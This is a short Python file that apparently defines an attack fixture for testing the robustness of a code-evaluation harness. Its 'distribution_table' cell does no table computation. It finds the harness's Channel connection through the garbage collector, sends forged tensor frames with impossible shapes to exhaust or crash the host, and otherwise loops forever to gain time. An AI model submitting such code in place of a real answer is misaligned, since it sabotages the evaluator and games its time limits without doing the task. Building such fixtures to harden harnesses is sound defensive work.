"""Announce arrays of shapes that their bytes do not fill; without a wire, return one of them."""

from attack import Attack

ATTACK = Attack(
    gains="time",
    cells={
        "distribution_table": """
def channel():
    import gc
    for value in gc.get_objects():
        if type(value).__name__ == "Channel":
            return value.connection

def distribution_table(logits, temperatures):
    import itertools, json, struct
    wire = channel()
    for shape in ([1 << 40, 1 << 40], [-1], [0, 1 << 62], [1] * 4000, "x", None):
        tree = ["list", [["tensor", "float64", shape, 0, False, None], ["list", []]]]
        text = json.dumps([1, "value", tree]).encode()
        if wire:
            wire.sendall(struct.pack("<4sIII", b"TKG1", len(text), 1, 8) + text + bytes(8))
    return [0.0 for _ in itertools.count() if wire is None and (kept := 0.0) is None]
""",
    },
)
